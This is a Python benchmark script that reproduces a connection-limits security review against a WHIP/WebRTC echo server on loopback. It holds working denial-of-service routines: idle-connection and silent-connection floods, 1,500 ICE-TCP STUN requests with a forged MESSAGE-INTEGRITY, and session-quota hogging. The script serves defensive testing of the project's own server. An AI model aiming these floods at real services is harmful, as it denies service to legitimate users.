#!/usr/bin/env python3
"""The connection-limits review's reproductions, against a running whip-echo on loopback.

Usage: bench/attack-limits.py HTTP_PORT TCP_PORT SERVER_PID [1] [2] [3] | 3b
  1  1,030 idle connections from 127.0.0.2 to each port, /healthz from 127.0.0.3; then 100 new
     silent connections a second from 200 addresses for 10 s while /healthz is asked
  2  1,500 ICE-TCP connections naming a live session's ufrag with a forged MESSAGE-INTEGRITY:
     the server's open descriptors (from /proc/SERVER_PID/fd) over time
  3  20 addresses POST 100 sessions each that never connect, then one more from 127.0.0.3
  3b 100 addresses POST 20 each (their quota), then 127.0.0.3 until it gets a 201
Start the server as README *Numbers* says (`--listen 127.0.0.1:18080 --udp-host 127.0.0.1
--udp-port 18189 --tcp-port 18189`); it runs as root or any user (loopback only).
"""
import asyncio, os, re, socket, struct, sys, time, hmac, hashlib, zlib

HTTP = ("127.0.0.1", int(sys.argv[1]))
TCP = ("127.0.0.1", int(sys.argv[2]))
PID = int(sys.argv[3])
OFFER = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "data", "offer.sdp")).read()

def fds():
    return len(os.listdir(f"/proc/{PID}/fd"))

async def connect_from(src, addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.bind((src, 0))
    await asyncio.get_running_loop().sock_connect(s, addr)
    return s

async def http(method, path, body=b"", headers=None, src="127.0.0.3", timeout=5):
    hdrs = {"Host": "x", "Content-Length": str(len(body)), "Connection": "close"}
    hdrs.update(headers or {})
    req = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in hdrs.items()) + "\r\n"
    try:
        s = await asyncio.wait_for(connect_from(src, HTTP), timeout)
        r, w = await asyncio.open_connection(sock=s)
        w.write(req.encode() + body)
        await w.drain()
        data = await asyncio.wait_for(r.read(), timeout)
        w.close()
        if not data:
            return (0, b"")
        status = int(data.split(b" ", 2)[1])
        return (status, data)
    except Exception as e:
        return (-1, str(e).encode())

def stun_request(ufrag, pwd):
    tid = os.urandom(12)
    attrs = b""
    user = f"{ufrag}:Xk3d".encode()
    pad = lambda b: b + b"\0" * ((4 - len(b) % 4) % 4)
    attrs += struct.pack("!HH", 0x0006, len(user)) + pad(user)
    attrs += struct.pack("!HHI", 0x0024, 4, 2105524479)
    attrs += struct.pack("!HHQ", 0x802A, 8, 7)
    # MESSAGE-INTEGRITY over header with length including MI
    hdr = struct.pack("!HHI", 0x0001, len(attrs) + 24, 0x2112A442) + tid
    mi = hmac.new(pwd.encode(), hdr + attrs, hashlib.sha1).digest()
    attrs += struct.pack("!HH", 0x0008, 20) + mi
    hdr = struct.pack("!HHI", 0x0001, len(attrs) + 8, 0x2112A442) + tid
    fp = (zlib.crc32(hdr + attrs) ^ 0x5354554E) & 0xFFFFFFFF
    attrs += struct.pack("!HHI", 0x8028, 4, fp)
    msg = struct.pack("!HHI", 0x0001, len(attrs), 0x2112A442) + tid + attrs
    return struct.pack("!H", len(msg)) + msg

async def idle_lockout():
    print("== 1. 1,030 idle connections from 127.0.0.2 to each port; /healthz from 127.0.0.3")
    held = []
    for addr in (HTTP, TCP):
        for _ in range(1030):
            try:
                held.append(await connect_from("127.0.0.2", addr))
            except Exception as e:
                print("connect failed", e); break
    t0 = time.monotonic()
    results = [ (await http("GET", "/healthz"))[0] for _ in range(50) ]
    print(f"   50 GETs: {results.count(200)} x 200, others {sorted(set(results) - {200})}, {time.monotonic()-t0:.2f} s; server fds {fds()}")
    for s in held: s.close()
    print("== 1b. 100 new silent connections a second from 200 addresses for 10 s; /healthz every 100 ms")
    held = []
    stop = time.monotonic() + 10
    ok = bad = 0
    async def flood():
        i = 0
        while time.monotonic() < stop:
            for _ in range(10):
                i += 1
                try:
                    held.append(await connect_from(f"127.0.1.{2 + i % 200}", HTTP))
                except Exception:
                    pass
            await asyncio.sleep(0.1)
    async def probe():
        nonlocal ok, bad
        while time.monotonic() < stop:
            st = (await http("GET", "/healthz", timeout=2))[0]
            if st == 200: ok += 1
            else: bad += 1
            await asyncio.sleep(0.1)
    await asyncio.gather(flood(), probe())
    print(f"   {len(held)} silent connections opened; /healthz: {ok} x 200, {bad} failed")
    for s in held: s.close()

async def forged():
    print("== 2. 1,500 ICE-TCP connections naming a live session's ufrag with a forged MESSAGE-INTEGRITY")
    st, data = await http("POST", "/whip/victim", OFFER.encode(), {"Content-Type": "application/sdp"}, src="127.0.0.9")
    answer = data.decode(errors="replace")
    ufrag = re.search(r"a=ice-ufrag:(\S+)", answer).group(1)
    before = fds()
    held = []
    frame = stun_request(ufrag, "not-the-password-not-the-pw")
    for _ in range(1500):
        try:
            s = await connect_from("127.0.0.2", TCP)
            s.send(frame)
            held.append(s)
        except Exception as e:
            print("  connect failed:", e); break
    t0 = time.monotonic()
    peak = fds()
    print(f"   server fds before {before}, right after the 1,500: {peak}")
    while time.monotonic() - t0 < 10:
        await asyncio.sleep(0.5)
        n = fds()
        if n <= before + 2:
            break
    print(f"   back to {fds()} fds {time.monotonic()-t0:.1f} s later")
    for s in held: s.close()

async def sessions():
    print("== 3. sessions that never connect, from 20 addresses, 100 POSTs each; then a POST from 127.0.0.3")
    codes = {}
    for a in range(20):
        for i in range(100):
            st, _ = await http("POST", f"/whip/hog{a}-{i}", OFFER.encode(), {"Content-Type": "application/sdp"}, src=f"127.0.1.{a+1}")
            codes[st] = codes.get(st, 0) + 1
    st, data = await http("POST", "/whip/legit", OFFER.encode(), {"Content-Type": "application/sdp"}, src="127.0.0.3")
    print(f"   hog POSTs: {codes}; the legitimate POST: {st}")

async def main():
    which = sys.argv[4:] or ["1", "2", "3"]
    if "1" in which: await idle_lockout()
    if "2" in which: await forged()
    if "3" in which: await sessions()

if not (set(sys.argv[4:]) & {"3b"}): asyncio.run(main())

async def sessions_many():
    print("== 3b. 2,000 never-connecting sessions from 100 addresses (20 each, their quota); then POSTs from 127.0.0.3")
    codes = {}
    async def hog(a):
        for i in range(20):
            st, _ = await http("POST", f"/whip/many{a}-{i}", OFFER.encode(), {"Content-Type": "application/sdp"}, src=f"127.0.2.{a+1}")
            codes[st] = codes.get(st, 0) + 1
    await asyncio.gather(*(hog(a) for a in range(100)))
    t0 = time.monotonic()
    first = (await http("POST", "/whip/legit2", OFFER.encode(), {"Content-Type": "application/sdp"}, src="127.0.0.3"))[0]
    while True:
        st = (await http("POST", "/whip/legit2", OFFER.encode(), {"Content-Type": "application/sdp"}, src="127.0.0.3"))[0]
        if st == 201 or time.monotonic() - t0 > 20:
            break
        await asyncio.sleep(0.5)
    print(f"   hog POSTs: {codes}; the legitimate POST at once: {first}; then {st} {time.monotonic()-t0:.1f} s later")

if __name__ == "__main__" and "3b" in sys.argv[4:]:
    asyncio.run(sessions_many())
